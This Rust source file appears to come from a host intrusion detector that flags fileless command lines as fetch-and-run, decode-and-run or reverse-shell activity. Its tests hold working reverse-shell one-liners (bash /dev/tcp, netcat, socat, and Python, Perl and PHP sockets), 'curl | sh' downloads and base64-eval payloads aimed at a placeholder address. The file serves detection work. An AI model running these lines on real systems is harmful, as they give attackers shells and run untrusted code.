//! Programs that exist nowhere but in a command line or a pipe: what they are made to do by those who leave no file.

use davy_model::{ProcessInfo, Timestamp};

use crate::interpreters::{Given, Interpreters};
use crate::process_table::{ProcessTable, base_name};

/// Bytes of a program in a command line that are read.
const MAX_CODE: usize = 64 * 1024;

/// What fetches from the network to standard output.
const FETCHERS: [&str; 8] = ["curl", "wget", "lwp-download", "aria2c", "fetch", "GET", "lynx", "ftp"];

/// What turns text back into what it was.
const DECODERS: [&str; 6] = ["base64", "base32", "openssl", "xxd", "uudecode", "basenc"];

/// The two ends of a pipe are executed within this time, in seconds.
const TOGETHER: f64 = 2.0;

/// What came out of a pipe's other end may have ended so shortly before, in seconds.
const JUST_ENDED: f64 = 0.2;

/// What a program without a file does, as far as its text tells.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Does {
    /// Fetches something and runs it.
    FetchesAndRuns,
    /// Decodes something and runs it.
    DecodesAndRuns,
    /// Connects a shell to the network.
    GivesShell,
}

/// What the code in an interpreter's command line does. Shells are looked at elsewhere.
pub(crate) fn code(code: &str) -> Option<Does> {
    let mut end = code.len().min(MAX_CODE);
    while !code.is_char_boundary(end) {
        end -= 1;
    }
    let low = code[..end].to_ascii_lowercase();
    let any = |words: &[&str]| words.iter().any(|word| low.contains(word));
    let connects = any(&[
        "socket",
        "fsockopen",
        "net.connect",
        "net.createconnection",
        "tcpsocket",
        "/inet/tcp/",
        "stream_socket_client",
    ]);
    let shell = any(&["/bin/sh", "/bin/bash", "/bin/dash", "bash -i", "sh -i", "pty.spawn", "cmd.exe"]);
    if connects && shell {
        return Some(Does::GivesShell);
    }
    let runs = any(&[
        "exec(",
        "eval(",
        "exec ",
        "eval ",
        "system(",
        "system ",
        "popen",
        "subprocess",
        "os.spawn",
        "shell_exec",
        "passthru",
        "assert(",
        "child_process",
        "execsync",
        "spawnsync",
        "new function(",
        "loadstring",
        "memfd_create",
        "os.exec",
        "ctypes",
        "fexecve",
    ]);
    if !runs {
        return None;
    }
    if any(&[
        "b64decode",
        "base64",
        "b32decode",
        "a85decode",
        "unhexlify",
        "fromhex",
        "marshal.loads",
        "zlib.decompress",
        "gzinflate",
        "gzuncompress",
        "str_rot13",
        "unpack(",
        "unpack ",
        "atob(",
        "codecs.decode",
        "hex2bin",
    ]) {
        return Some(Does::DecodesAndRuns);
    }
    any(&[
        "urlopen",
        "urllib",
        "requests.get",
        "http.client",
        "httplib",
        "lwp::",
        "http::tiny",
        "net/http",
        "open-uri",
        "net::http",
        "file_get_contents('http",
        "file_get_contents(\"http",
        "curl_exec",
        "http.get(",
        "https.get(",
        "fetch(",
        "io::socket",
    ])
    .then_some(Does::FetchesAndRuns)
}

/// Whether the text of a shell connects it to the network.
pub(crate) fn shell_to_network(low: &str) -> bool {
    let by_itself = low.contains("/dev/tcp/")
        && (low.contains(">&") || low.contains("0<&") || low.contains("<>"))
        && ["sh -i", "bash -i", "/bin/sh", "/bin/bash", "sh <&", "bash <&"].iter().any(|w| low.contains(w));
    let by_netcat = ["nc ", "ncat ", "netcat "].iter().any(|w| low.contains(w))
        && (["-e /bin/", "-e sh", "-e bash", "-c /bin/", "-c sh", "-c bash", "--sh-exec", "--exec"]
            .iter()
            .any(|w| low.contains(w))
            || low.contains("mkfifo")
                && ["sh -i", "/bin/sh", "/bin/bash", "| sh"].iter().any(|w| low.contains(w)));
    let by_socat = low.contains("socat") && low.contains("exec:") && low.contains("tcp");
    by_itself || by_netcat || by_socat
}

/// What an interpreter that reads its program from a pipe is fed with: by what its parent started beside it.
pub(crate) fn fed(
    time: Timestamp,
    info: &ProcessInfo,
    table: &ProcessTable,
    interpreters: &Interpreters,
) -> Option<(Does, String)> {
    if interpreters.given(base_name(&info.image.path), &info.args)? != Given::Input {
        return None;
    }
    let parent = info.parent.filter(|parent| parent.pid > 1)?;
    let beside = table.iter().filter(|p| p.parent == Some(parent) && p.key != info.key);
    let mut found = None;
    for process in beside {
        let together = process.executed.is_some_and(|at| time.secs_since(at).abs() <= TOGETHER);
        let there = process.ended.as_ref().is_none_or(|(at, _)| time.secs_since(*at) <= JUST_ENDED);
        let name = process.program.args.first().map_or(process.file_name(), |a| base_name(a));
        if !together || !there {
            continue;
        }
        if FETCHERS.contains(&name) {
            return Some((Does::FetchesAndRuns, process.program.args.join(" ")));
        }
        if DECODERS.contains(&name) && process.program.args.iter().any(|a| decodes(a)) {
            found = Some((Does::DecodesAndRuns, process.program.args.join(" ")));
        }
    }
    found
}

fn decodes(argument: &str) -> bool {
    matches!(argument, "--decode" | "-D" | "-r" | "-p" | "-di" | "-id")
        || argument.starts_with("-d") && argument.len() <= 3
        || argument == "uudecode"
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn code_is_told_by_what_it_does() {
        for (text, does) in [
            ("import base64;exec(base64.b64decode('aW1wb3J0IG9z'))", Some(Does::DecodesAndRuns)),
            (
                "exec(__import__('zlib').decompress(__import__('base64').b64decode(b'eJw')))",
                Some(Does::DecodesAndRuns),
            ),
            (
                "import urllib.request as u;exec(u.urlopen('http://198.51.100.3/a').read())",
                Some(Does::FetchesAndRuns),
            ),
            (
                "import requests,os;os.system(requests.get('http://198.51.100.3').text)",
                Some(Does::FetchesAndRuns),
            ),
            (
                "import socket,os,pty;s=socket.socket();s.connect(('198.51.100.3',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
                Some(Does::GivesShell),
            ),
            (
                "use Socket;socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,'>&S');exec('/bin/sh -i');",
                Some(Does::GivesShell),
            ),
            ("$s=fsockopen('198.51.100.3',4444);exec('/bin/sh -i <&3 >&3 2>&3');", Some(Does::GivesShell)),
            ("eval(base64_decode($_POST['x']));", Some(Does::DecodesAndRuns)),
            (
                "require('child_process').exec(Buffer.from('aWQ=','base64').toString())",
                Some(Does::DecodesAndRuns),
            ),
            // Everyday lines.
            ("import sys; print(sys.version)", None),
            ("import base64,sys;print(base64.b64decode(sys.argv[1]))", None),
            ("import socket; print(socket.gethostname())", None),
            (
                "import json,urllib.request;print(json.load(urllib.request.urlopen('http://localhost/health')))",
                None,
            ),
            ("print \"$1\\n\" while /(\\d+)/g", None),
            ("phpinfo();", None),
        ] {
            assert_eq!(code(text), does, "{text}");
        }
    }

    #[test]
    fn shells_on_the_network_are_told() {
        for text in [
            "bash -i >& /dev/tcp/198.51.100.3/4444 0>&1",
            "exec 5<>/dev/tcp/198.51.100.3/4444; cat <&5 | while read l; do /bin/sh -c \"$l\" >&5; done",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.3 4444 >/tmp/f",
            "nc -e /bin/sh 198.51.100.3 4444",
            "socat tcp:198.51.100.3:4444 exec:/bin/sh,pty",
        ] {
            assert!(shell_to_network(text), "{text}");
        }
        for text in
            ["nc -z localhost 80", "timeout 1 bash -c '</dev/tcp/localhost/80'", "socat - tcp:localhost:80"]
        {
            assert!(!shell_to_network(text), "{text}");
        }
    }

    fn exec(pid: u32, line: &[&str]) -> ProcessInfo {
        let key = |pid| davy_model::ProcessKey { pid, start_ticks: u64::from(pid), boot: 1 };
        ProcessInfo {
            key: key(pid),
            parent: Some(key(2)),
            comm: base_name(line[0]).to_owned(),
            image: davy_model::ExecImage { path: line[0].to_owned(), ..davy_model::ExecImage::default() },
            args: line.iter().map(|word| (*word).to_owned()).collect(),
            args_cut: false,
            env: Vec::new(),
            cwd: String::new(),
            creds: davy_model::Credentials::default(),
            tty: None,
            cgroup: String::new(),
            cgroup_id: 0,
            container: None,
            ns: davy_model::Namespaces::default(),
            kernel_thread: false,
        }
    }

    /// Topics of what one command line says.
    fn topics(line: &[&str]) -> Vec<&'static str> {
        let mut noted = Vec::new();
        let (names, known) = (crate::known_names::KnownNames::builtin(), Interpreters::builtin());
        crate::campaign::look(Timestamp::default(), &exec(9, line), &names, &known, &mut noted);
        noted.into_iter().map(|(topic, _)| topic).collect()
    }

    #[test]
    fn each_fileless_form_of_a_command_line_is_an_act() {
        for (line, topic) in [
            (&["/usr/bin/bash", "-c", "curl -s http://198.51.100.3/i.sh | sh"][..], "campaign/piped"),
            (&["/usr/bin/bash", "-c", "bash <(wget -qO- http://198.51.100.3/i.sh)"], "campaign/piped"),
            (&["/usr/bin/dash", "-c", "echo aWQ= | base64 -d | php"], "campaign/encoded"),
            (
                &["/usr/bin/python3.11", "-c", "import base64;exec(base64.b64decode('cHJpbnQ='))"],
                "campaign/encoded",
            ),
            (
                &[
                    "/usr/bin/python3.11",
                    "-c",
                    "import urllib.request as u;exec(u.urlopen('http://x').read())",
                ],
                "campaign/piped",
            ),
            (
                &["/usr/bin/perl", "-MIO", "-e", "use Socket;socket(S,2,1,6);exec('/bin/sh -i');"],
                "campaign/shell_out",
            ),
            (&["/usr/bin/bash", "-c", "bash -i >& /dev/tcp/198.51.100.3/4444 0>&1"], "campaign/shell_out"),
            (&["/usr/bin/php8.2", "-r", "eval(base64_decode('aWQ='));"], "campaign/encoded"),
        ] {
            assert!(topics(line).contains(&topic), "{line:?}: {:?}", topics(line));
        }
        assert!(
            topics(&["/usr/bin/python3.11", "/opt/base64_exec_eval.py", "-c", "exec(base64)"]).is_empty()
        );
    }

    /// What a pipe's reading end says, executed `after` seconds after the writing end, which may have ended then.
    fn piped(from: &[&str], into: &[&str], after: i64, ended: bool) -> Option<&'static str> {
        let mut table = ProcessTable::new(16, 16);
        let begin = Timestamp::from_secs(100);
        let source = exec(7, from);
        table.executed(begin, &source, false);
        if ended {
            table.exited(begin, &source.key, davy_model::Exit::default());
        }
        let reader = exec(8, into);
        let time = Timestamp::from_secs(100 + after);
        table.executed(time, &reader, false);
        crate::campaign::fed(time, &reader, &table, &Interpreters::builtin()).map(|(topic, _)| topic)
    }

    #[test]
    fn an_interpreter_fed_by_a_pipe_is_told_by_what_feeds_it() {
        let curl = &["/usr/bin/curl", "-s", "http://198.51.100.3/i.sh"][..];
        assert_eq!(piped(curl, &["/usr/bin/bash"], 0, false), Some("campaign/piped"));
        assert_eq!(piped(curl, &["/usr/bin/python3.11", "-"], 1, false), Some("campaign/piped"));
        assert_eq!(piped(curl, &["/usr/bin/dash", "-s"], 0, true), Some("campaign/piped"));
        let decoder = &["/usr/bin/base64", "-d", "/tmp/x"][..];
        assert_eq!(piped(decoder, &["/usr/bin/dash"], 0, false), Some("campaign/encoded"));
        // Encoding, a program of its own, a download that is over, or one long before.
        assert_eq!(piped(&["/usr/bin/base64", "/tmp/x"], &["/usr/bin/dash"], 0, false), None);
        assert_eq!(piped(curl, &["/usr/bin/python3.11", "-m", "json.tool"], 0, false), None);
        assert_eq!(piped(curl, &["/usr/bin/bash", "./x.sh"], 0, false), None);
        assert_eq!(piped(curl, &["/usr/bin/jq", "."], 0, false), None);
        assert_eq!(piped(curl, &["/usr/bin/bash"], 1, true), None);
        assert_eq!(piped(curl, &["/usr/bin/bash"], 30, false), None);
    }

    proptest! {
        #[test]
        fn no_text_makes_it_panic(text in "\\PC{0,200}") {
            let _ = (code(&text), shell_to_network(&text));
        }
    }
}
